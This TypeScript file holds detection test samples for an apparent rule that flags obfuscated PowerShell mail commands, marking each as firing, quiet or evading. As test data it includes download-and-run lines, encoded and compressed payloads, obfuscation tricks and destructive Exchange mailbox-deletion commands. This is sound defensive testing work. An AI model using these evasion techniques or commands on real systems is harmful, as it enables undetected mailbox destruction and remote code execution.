import type { DetectionSamples } from './detection.ts';
import { encodedScript, processRow } from './sample-records.ts';

export const obfuscatedMailCommandSamples: DetectionSamples = {
  detection: 'obfuscated-mail-command',
  samples: [
    {
      name: 'an encoded cmdlet that does no harm',
      expect: 'fires',
      severity: 'medium',
      records: [processRow(`powershell.exe -enc ${encodedScript('New-ComplianceSearchAction q1 -Report')}`)],
    },
    {
      name: 'as grave as what it hides',
      expect: 'fires',
      severity: 'high',
      records: [processRow(`powershell.exe -e ${encodedScript('Search-Mailbox mira.solberg -DeleteContent -Force')}`)],
    },
    {
      name: 'a command of unknown name with a parameter of mailbox cmdlets',
      expect: 'fires',
      severity: 'low',
      records: [processRow('powershell.exe -c "& $x -Mailbox mira.solberg@fjordbank.example"')],
    },
    {
      name: 'a script that is not in the line, beside the noun of a cmdlet',
      expect: 'fires',
      severity: 'medium',
      records: [processRow('powershell.exe -c "$n=\'MailboxExportRequest\'; iex $y"')],
    },
    {
      name: 'a command in a variable, splatting, and no mailbox',
      expect: 'quiet',
      records: [processRow('powershell.exe -c "$p=@{Path=\'C:\\tmp\'}; & $exe @p; Import-Module Az; iex $setup"')],
    },
    {
      name: 'an encoded script of a management tool',
      expect: 'quiet',
      records: [processRow(`powershell.exe -NonI -enc ${encodedScript('Get-Service W32Time | Restart-Service')}`)],
    },
    {
      name: 'a connection by variable, then a cmdlet in plain sight',
      expect: 'quiet',
      records: [processRow('powershell.exe -c "& $connect; Get-InboxRule -Mailbox mira.solberg"')],
    },
    {
      name: 'a function that is only defined',
      expect: 'quiet',
      records: [processRow('powershell.exe -c "function Get-Rules { & $script:invoke -Mailbox $m InboxRule }"')],
    },
    {
      name: 'back ticks',
      expect: 'evades',
      severity: 'high',
      records: [processRow('powershell.exe -c "Rem`ove-Mailb`oxExportRe`quest -Identity x -Confirm:$false"')],
    },
    {
      name: 'a name from another command',
      expect: 'evades',
      severity: 'medium',
      records: [processRow('powershell.exe -c "& (Get-Variable z -ValueOnly) -Name \'a\' InboxRule"')],
    },
    {
      name: 'a script from the network, in a block that is made and run',
      expect: 'evades',
      severity: 'medium',
      records: [processRow('powershell.exe -c "$env:T=\'InboxRule\'; [scriptblock]::Create($s).Invoke()"')],
    },
    {
      name: 'codes of characters, reversed text, wildcards',
      expect: 'evades',
      severity: 'high',
      records: [
        processRow("powershell.exe -c \"& ([char]82+'emove-Mailbox'+'ExportRequest') x -Confirm:$false\""),
        processRow('powershell.exe -c "& (-join \'tseuqeRtropxExobliaM-evomeR\'[-1..-27]) x -Confirm:$false"'),
        processRow('powershell.exe -c "& (gcm Remove-MailboxExp*) x -Confirm:$false"'),
      ],
    },
    {
      name: 'an abbreviated parameter',
      expect: 'evades',
      severity: 'low',
      records: [processRow('powershell.exe -c "$c=$args[0]; . $c mira.solberg -DeleteC"')],
    },
    {
      name: 'download and run, in a session of Exchange or by a telling name',
      expect: 'evades',
      severity: 'medium',
      records: [
        processRow('powershell.exe -c "Connect-ExchangeOnline; iex (irm https://files.example/x.ps1)"'),
        processRow('powershell.exe -c "Connect-ExchangeOnline; irm https://files.example/x | iex"'),
        processRow(
          `powershell.exe -c "iex (New-Object Net.WebClient).DownloadString('https://files.example/clear-mailbox.ps1')"`,
        ),
      ],
    },
    {
      name: 'download and run of anything else, and a session in which nothing is fetched',
      expect: 'quiet',
      records: [
        processRow('powershell.exe -c "iwr -UseBasicParsing https://files.example/install.ps1 | iex"'),
        processRow('powershell.exe -c "Connect-ExchangeOnline; & $report; iex $hook"'),
      ],
    },
    {
      name: 'a verb, or the beginning of a script, that is not in the line',
      expect: 'evades',
      severity: 'medium',
      records: [
        processRow('powershell.exe -c "& \\"$verb-InboxRule\\" -Mailbox mira.solberg"'),
        processRow('powershell.exe -c "iex ((gc $env:TEMP\\a.txt) + \' -DeleteContent\')"'),
      ],
    },
    {
      name: 'a message with a variable in it, and text that is run beside another parameter',
      expect: 'quiet',
      records: [
        processRow('powershell.exe -c "Write-Host \\"$verb-InboxRule\\"; & \\"$tools-Backup\\" -Path C:\\data"'),
        processRow('powershell.exe -c "iex ((gc $env:TEMP\\a.txt) + \' -DeleteContents\')"'),
      ],
    },
    {
      name: 'a script of the same folder, by its name',
      expect: 'quiet',
      records: [
        processRow('powershell.exe -c "& (Join-Path $PSScriptRoot \'Get-InboxRule.ps1\') -Mailbox mira.solberg"'),
      ],
    },
    {
      name: 'a compressed script',
      expect: 'evades',
      severity: 'high',
      records: [
        processRow(
          'powershell.exe -c "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\'H4sIAAAAAAACAwtOTSxKztD1TczMScqvUMjNLErUK87PSUotSlfQdUnNSS1Jdc7PK0nNK1HQdcsvSk4FAEZpUbwxAAAA\'));iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"',
        ),
        processRow(
          'powershell.exe -c "$(New-Object IO.StreamReader($(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String(\'C05NLErO0PVNzMxJyq9QyM0sStQrzs9JSi1KV9B1Sc1JLUl1zs8rSc0rUdB1yy9KTgUA\'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd() | iex"',
        ),
      ],
    },
  ],
};
